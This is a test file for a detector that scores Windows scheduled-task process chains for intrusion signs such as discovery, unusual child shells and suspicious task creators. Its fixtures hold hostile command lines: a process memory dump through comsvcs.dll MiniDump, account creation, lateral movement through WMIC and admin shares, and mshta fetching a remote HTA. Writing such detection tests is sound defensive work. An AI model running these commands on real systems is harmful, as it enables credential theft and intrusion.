import { describe, expect, test } from 'vitest'
import { madeChain } from '../../lab/made-chains.ts'
import { OwnBaseline } from '../baseline/own.ts'
import { questionOf } from '../discovery.ts'
import { scoreChain } from '../index.ts'
import { unknown } from '../known.ts'
import { subjectOf } from '../subject.ts'
import { actionSwapped } from './action-swapped.ts'
import { discovery } from './discovery.ts'
import { intrusions } from './intrusion.ts'
import { madeByPerson } from './made-by-person.ts'
import { newOffspring } from './new-offspring.ts'
import { offspring } from './offspring.ts'
import { runTraits } from './run-traits.ts'

const system32 = 'C:\\Windows\\System32\\'
type Chained = Parameters<typeof madeChain>[0]
const root = (image: string, commandLine = image) => ({ image, commandLine, depth: 0 })
const child = (image: string, commandLine = image) => ({ image, commandLine, depth: 1 })
const about = (chain: Chained) => subjectOf(madeChain(chain), unknown)
const ran = (...processes: readonly ReturnType<typeof root>[]): Chained => ({ runs: [{ processes }] })

describe('a shell below a program that starts none', () => {
  test('below a host of COM handlers it is the most telling', () => {
    const handler = offspring.weigh(
      about(ran(root(`${system32}taskhostw.exe`), child(`${system32}cmd.exe`, 'cmd /c x'))),
    )
    const windows = offspring.weigh(about(ran(root(`${system32}wermgr.exe`), child(`${system32}cmd.exe`, 'cmd /c x'))))
    const other = offspring.weigh(about(ran(root('C:\\Tool\\a.exe'), child(`${system32}cmd.exe`, 'cmd /c x'))))
    expect(handler?.bits).toBeGreaterThan(windows?.bits ?? 9)
    expect(windows?.bits).toBeGreaterThan(other?.bits ?? 9)
    expect(windows?.says).toMatch(/so did 0 of 60 real runs of ordinary tasks\.$/)
    expect(other?.bits).toBeLessThanOrEqual(3)
  })

  test('a script may start programs, and telemetry tests PowerShell', () => {
    expect(offspring.weigh(about(ran(root(`${system32}cmd.exe`), child(`${system32}robocopy.exe`))))).toBeUndefined()
    const telemetry = ran(root(`${system32}CompatTelRunner.exe`), child('C:\\x\\powershell.exe'))
    expect(offspring.weigh(about(telemetry))).toBeUndefined()
  })
})

describe('questions about the system', () => {
  test.each([
    ['whoami.exe', 'whoami /all', 'account'],
    ['net1.exe', 'net1 localgroup administrators', 'account'],
    ['wmic.exe', 'wmic computersystem get domain', 'system'],
    ['powershell.exe', 'powershell -c Get-CimInstance Win32_UserAccount', 'account'],
    ['powershell.exe', 'powershell Get-NetTCPConnection', 'network'],
    ['netsh.exe', 'netsh wlan show profiles', 'network'],
    ['getmac.exe', 'getmac /v', 'network'],
    ['net.exe', 'net view \\\\fs1', 'share'],
    ['nltest.exe', 'nltest /dclist:', 'domain'],
    ['wmic.exe', 'wmic /namespace:\\\\root\\securitycenter2 path antivirusproduct get displayname', 'security'],
  ])('%s: %s asks about %s', (image, commandLine, question) => {
    expect(questionOf({ image: system32 + image, commandLine })).toBe(question)
  })

  test.each([
    ['net.exe', 'net stop spooler'],
    ['net.exe', 'net user bob x /add'],
    ['ipconfig.exe', 'ipconfig /flushdns'],
    ['netsh.exe', 'netsh interface set interface x enable'],
    ['sc.exe', 'sc start w32time'],
    ['powershell.exe', 'powershell -File C:\\Scripts\\backup.ps1'],
  ])('%s: %s asks nothing', (image, commandLine) => {
    expect(questionOf({ image: system32 + image, commandLine })).toBeUndefined()
  })

  test('below a program they outrank those of a script, and several or who one is what an inventory asks', () => {
    const whoami = child(`${system32}whoami.exe`, 'whoami')
    const systeminfo = child(`${system32}systeminfo.exe`, 'systeminfo')
    const program = root('C:\\a\\a.exe')
    const bits = (...processes: readonly ReturnType<typeof root>[]) =>
      discovery.weigh(about(ran(...processes)))?.bits ?? 0
    expect(bits(program, whoami)).toBeGreaterThan(bits(root(`${system32}cmd.exe`), whoami))
    expect(bits(program, whoami)).toBeGreaterThan(bits(program, systeminfo))
    expect(bits(program, whoami, systeminfo)).toBeGreaterThan(bits(program, systeminfo))
  })
})

test('an intent that the definition and the run show counts once', () => {
  const command = 'cmd.exe /c net user maint x /add'
  const ids = (chain: Chained) =>
    scoreChain(madeChain({ statedAction: command, ...chain }), unknown, true).score.factors.map(({ id }) => id)
  expect(ids({})).toContain('intrusion')
  expect(ids(ran(root(`${system32}cmd.exe`, command)))).toContain('run-intrusion')
  expect(ids(ran(root(`${system32}cmd.exe`, command)))).not.toContain('intrusion')
})

test.each([
  ['run-intrusion', `${system32}rundll32.exe`, 'rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 612 l.dmp full'],
  ['run-lateral', `${system32}net.exe`, 'net use \\\\srv7\\c$ /user:x'],
  ['run-lateral', `${system32}wbem\\WMIC.exe`, 'wmic /node:srv7 process call create x'],
  ['run-collection', 'C:\\t\\7z.exe', '7z a C:\\t\\o.7z D:\\share'],
])('%s: what an intruder does next counts: %s', (id, image, commandLine) => {
  const subject = about(ran(root('C:\\a\\a.exe'), child(image, commandLine)))
  expect(intrusions.filter((factor) => factor.weigh(subject)).map((factor) => factor.id)).toContain(id)
})

test('what the program starts is weighed like the program where the definition does not show it', () => {
  const fetched = child(`${system32}mshta.exe`, 'mshta http://192.0.2.7/a.hta')
  expect(runTraits.weigh(about(ran(root('C:\\a\\a.exe'), fetched)))?.bits).toBeGreaterThan(2)
  expect(runTraits.weigh(about(ran(root('C:\\a\\a.exe'), child('C:\\a\\b.exe'))))).toBeUndefined()
})

describe('the task’s own past', () => {
  const quiet = { processes: [root('C:\\a\\a.exe')] }
  const loud = { processes: [root('C:\\a\\a.exe'), child(`${system32}cmd.exe`, 'cmd /c x')] }

  test('the first run that starts a shell counts by how many did not', () => {
    const bitsAfter = (...earlier: (typeof quiet)[]) => newOffspring.weigh(about({ runs: [...earlier, loud] }))?.bits
    expect(bitsAfter(quiet)).toBeUndefined()
    expect(bitsAfter(quiet, quiet, quiet)).toBeCloseTo(Math.log2(5))
    const many = about({ runs: [quiet, quiet, quiet, loud], runSummary: { count: 11 } })
    expect(newOffspring.weigh(many)?.bits).toBeCloseTo(Math.log2(12))
    expect(newOffspring.weigh(many)?.says).toMatch(/^10 earlier runs of this task did not start cmd/)
  })

  test('a task that always did so has no new habit', () => {
    expect(newOffspring.weigh(about({ runs: [loud, loud, loud, loud] }))).toBeUndefined()
  })

  const person = { user: 'CORP\\bob', sid: 'S-1-5-21-1-2-3-1001' }
  const acting = (command: string) => ({ actions: [{ kind: 'exec', command }] }) as const

  test('an action swapped for another program counts, a new version of the same does not', () => {
    const swapped = (now: string) =>
      actionSwapped.weigh(
        about({
          change: { kind: 'modified', actor: person, before: acting('C:\\v\\1.0\\up.exe') },
          definition: acting(now),
        }),
      )
    expect(swapped('C:\\v\\2.0\\up.exe')).toBeUndefined()
    expect(swapped('C:\\v\\sync.exe')?.says).toMatch(/^It started up before and starts sync now/)
  })

  test('where the definition before was not seen its runs tell', () => {
    const baseline = new OwnBaseline()
    baseline.see(madeChain({ runs: [quiet, quiet] }))
    const change = madeChain({
      change: { kind: 'modified', actor: person, time: Date.UTC(2030, 1) },
      definition: acting('C:\\a\\b.exe'),
      at: { time: Date.UTC(2030, 1), ticks: 0 },
    })
    baseline.see(change)
    expect(actionSwapped.weigh(subjectOf(change, baseline.of(change)))?.says).toMatch(/^2 earlier runs never started b/)
  })

  test('a chain is no evidence of its own ordinariness', () => {
    const baseline = new OwnBaseline()
    const chain = madeChain({ change: { kind: 'created', actor: person }, runs: [quiet, quiet] })
    baseline.see(chain)
    expect(baseline.of(chain).past.runs).toBe(0)
  })
})

describe('who made it', () => {
  const by = (user: string, sid: string | null, images: readonly string[], runsAs: string | null = null) => {
    const [image, ...rest] = images
    const process = image === undefined ? null : { image, ancestry: rest.map((each) => ({ image: each })) }
    return madeByPerson.weigh(
      about({ change: { actor: { user, sid, process } }, statedAction: 'a.exe', statedRunAs: runsAs }),
    )
  }
  const person = ['CORP\\bob', 'S-1-5-21-1-2-3-1001'] as const

  test('a person at a shell counts, and more so for SYSTEM', () => {
    const plain = by(...person, [`${system32}schtasks.exe`, `${system32}cmd.exe`])
    const asSystem = by(...person, [`${system32}schtasks.exe`, `${system32}cmd.exe`], 'SYSTEM')
    expect(plain?.bits).toBe(2.6)
    expect(asSystem?.bits).toBeGreaterThan(3)
  })

  test('software for its user, and the system’s own accounts, say nothing', () => {
    expect(by(...person, ['C:\\Users\\bob\\AppData\\Local\\V\\setup.exe', 'C:\\Windows\\explorer.exe'])).toBeUndefined()
    expect(
      by('NT AUTHORITY\\SYSTEM', 'S-1-5-18', [`${system32}schtasks.exe`, `${system32}cmd.exe`], 'SYSTEM'),
    ).toBeUndefined()
  })

  test('a person’s task as SYSTEM counts also where no process is named', () => {
    expect(by(...person, [], 'SYSTEM')?.says).toMatch(/^CORP\\bob made it, to run as SYSTEM; /)
  })
})
